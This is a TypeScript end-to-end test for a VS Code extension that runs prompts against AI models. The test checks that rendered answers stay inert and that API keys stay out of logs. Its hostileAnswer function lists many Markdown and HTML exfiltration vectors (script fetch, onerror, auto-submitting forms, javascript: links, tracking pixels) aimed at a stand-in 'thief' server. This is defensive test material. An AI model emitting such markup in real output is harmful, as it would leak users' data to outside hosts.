import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DemoServer, startDemoServer } from '../../src/demo/server.ts';
import { type LoopbackServer, startLoopbackServer } from '../support/loopback/loopbackServer.ts';
import { plainReply } from '../support/loopback/replies.ts';
import { answer, refusal, startScriptedModel } from '../support/loopback/scriptedModel.ts';
import { setApiKey } from './support/apiKey.ts';
import { alternate, callOrder, parseLog } from './support/logLines.ts';
import { ownErrors } from './support/ownErrors.ts';
import { PageRequests } from './support/pageRequests.ts';
import { ResultsPanel } from './support/resultsPanel.ts';
import { step } from './support/steps.ts';
import { windowForAll } from './support/testWindow.ts';

const wrongKey = 'sk-ant-wrong-0123456789abcdef';
const rightKey = 'sk-ant-right-0123456789abcdef';

/** Every way in which Markdown and HTML can make a page load, send or run something. */
function hostileAnswer(thief: string): string {
  return [
    '# Report',
    `![pixel](${thief}/markdown.png)`,
    `![reference][pixel]`,
    `<img src="${thief}/html.png" srcset="${thief}/set.png 2x" onerror="fetch('${thief}/onerror')">`,
    `<svg><image href="${thief}/svg.png"/></svg>`,
    `<style>@import url(${thief}/import.css); body { background: url(${thief}/background.png) }</style>`,
    `<link rel="stylesheet" href="${thief}/link.css"><link rel="prefetch" href="${thief}/prefetch">`,
    `<script>fetch('${thief}/script')</script>`,
    `<script src="${thief}/script.js"></script>`,
    `<iframe src="${thief}/frame"></iframe><object data="${thief}/object"></object>`,
    `<video src="${thief}/video.mp4" poster="${thief}/poster.png" autoplay></video>`,
    `<form action="${thief}/form"><input autofocus onfocus="this.form.submit()"></form>`,
    `<meta http-equiv="refresh" content="0;url=${thief}/refresh"><base href="${thief}/">`,
    `<div style="background-image: url(${thief}/style.png)">styled</div>`,
    `<a href="${thief}/ping" ping="${thief}/pinged">a link in HTML</a>`,
    '',
    '- one **bold** point',
    '',
    '```ts',
    `const image = '![pixel](${thief}/fence.png)';`,
    '```',
    '',
    `[a link](${thief}/link?secret=1) and [a script](javascript:fetch('${thief}/js'))`,
    '',
    `[pixel]: ${thief}/reference.png`,
  ].join('\n');
}

describe('Answers and keys of servers that the user has chosen', () => {
  let requests: PageRequests;
  let thief: LoopbackServer;
  let demo: DemoServer;
  /** The key the model requires; undefined for none. */
  let wantedKey: string | undefined;
  const window = windowForAll(async () => {
    thief = await startLoopbackServer(() => plainReply(200, 'thank you'));
    demo = await startDemoServer();
    return {
      model: () =>
        startScriptedModel((_prompt, { headers }) =>
          wantedKey === undefined || headers['x-api-key'] === wantedKey
            ? answer(hostileAnswer(thief.url))
            : refusal(401, 'authentication_error', 'invalid x-api-key'),
        ),
      files: {
        'hostile.prompts.md': '## Hostile\n\nSay something.\n',
        'openai.prompts.md': [
          '---\nprovider: openai\nmodel: demo-fast\n---',
          '## Left\n\nAdd 1 and 2, then multiply by 3, then add 4, then multiply by 5.',
          '## Right\n\nAdd 5 and 6, then multiply by 7, then add 8, then multiply by 9.',
        ].join('\n\n'),
      },
      settings: { 'interleave.openai.baseUrl': demo.openaiBaseUrl },
    };
  });

  beforeAll(async () => {
    requests = new PageRequests(window.vs.page);
    await window.vs.extensionMenus();
  });

  afterAll(async () => {
    for (const server of [thief, demo]) await server?.close();
  });

  it('show nothing foreign, and keys go only where they belong', async () => {
    const { vs, model } = window;
    await step('shows a hostile answer as Markdown and loads or sends nothing', async () => {
      await vs.explorerContextMenu('hostile.prompts.md', 'Run Prompts');
      const panel = await ResultsPanel.find(vs, ['Hostile']);
      expect(await panel.ended()).toEqual(['done']);
      const details = await panel.open('Hostile');
      const markdown = details.locator('interleave-markdown');
      await markdown.locator('h1, h2, h3', { hasText: 'Report' }).waitFor();
      expect(await markdown.locator('strong').textContent()).toBe('bold');
      expect(await markdown.locator('pre code').textContent()).toContain('fence.png');
      const elements = await markdown.evaluate((root) =>
        [...root.querySelectorAll('*')].map((element) => element.localName),
      );
      const active = [
        'img',
        'image',
        'script',
        'style',
        'link',
        'iframe',
        'object',
        'video',
        'form',
      ];
      expect(elements.filter((name) => active.includes(name))).toEqual([]);
      for (const tab of ['Transcript', 'Raw', 'Prompt', 'Answer']) {
        await details.getByRole('tab', { name: tab, exact: true }).click();
      }
      expect(thief.requests).toEqual([]);
    });

    await step('opens a link of an answer only after showing its address', async () => {
      const panel = await ResultsPanel.find(vs, ['Hostile']);
      await panel.details('Hostile').getByText('a link', { exact: true }).first().click();
      const dialog = vs.notification(`Open ${new URL(thief.url).host}?`);
      await dialog.waitFor();
      expect(await dialog.textContent()).toContain('secret=1');
      await vs.page.keyboard.press('Escape');
      await dialog.waitFor({ state: 'hidden' });
      expect(thief.requests).toEqual([]);
      expect(vs.page.context().pages().length).toBe(1);
      await vs.runCommand('View: Close All Editors');
    });

    await step('interleaves tool calls over the OpenAI protocol, too', async () => {
      await vs.explorerContextMenu('openai.prompts.md', 'Run Prompts');
      const panel = await ResultsPanel.find(vs, ['Left', 'Right']);
      expect(await panel.ended()).toEqual(['done', 'done']);
      expect(await panel.frame.locator('vscode-badge').count()).toBe(0);
      const log = await vs.outputChannelText('Interleave', (text) =>
        /\br2 .*■ finished/.test(text),
      );
      const lines = parseLog(log);
      const order = callOrder(lines, 2);
      expect(order.length).toBe(8);
      expect(alternate(order, 1, 2), order.join(' ')).toBe(true);
      await vs.runCommand('View: Toggle Output');
      await vs.runCommand('View: Close All Editors');
    });

    await step(
      'pauses a run whose key is refused, and continues it once the right one is set',
      async () => {
        wantedKey = rightKey;
        await setApiKey(vs, 'Anthropic', wrongKey);
        await vs.explorerContextMenu('hostile.prompts.md', 'Run Prompts');
        const panel = await ResultsPanel.find(vs, ['Hostile']);
        await vs.notification(/hostile\.prompts\.md is paused\..*invalid x-api-key/).waitFor();
        const resume = panel.frame.locator('.paused-strip').getByRole('button', { name: 'Resume' });
        const requestsBefore = model.requests.length;
        await resume.click();
        await expect.poll(() => model.requests.length).toBe(requestsBefore + 1);
        await resume.waitFor();
        await setApiKey(vs, 'Anthropic', rightKey);
        expect(await panel.ended()).toEqual(['done']);
        expect(model.requests.length).toBe(requestsBefore + 2);
      },
    );

    await step('requests nothing outside its own window and shows no key', async () => {
      expect(requests.count).toBeGreaterThan(0);
      expect(requests.foreign()).toEqual([]);
      expect(ownErrors(vs.consoleLines)).toEqual([]);
      const log = await vs.outputChannelText('Interleave', (text) =>
        /\br3 .*■ finished/.test(text),
      );
      for (const text of [log, ...vs.consoleLines]) {
        expect(text).not.toContain(wrongKey);
        expect(text).not.toContain(rightKey);
      }
    });
  });
});
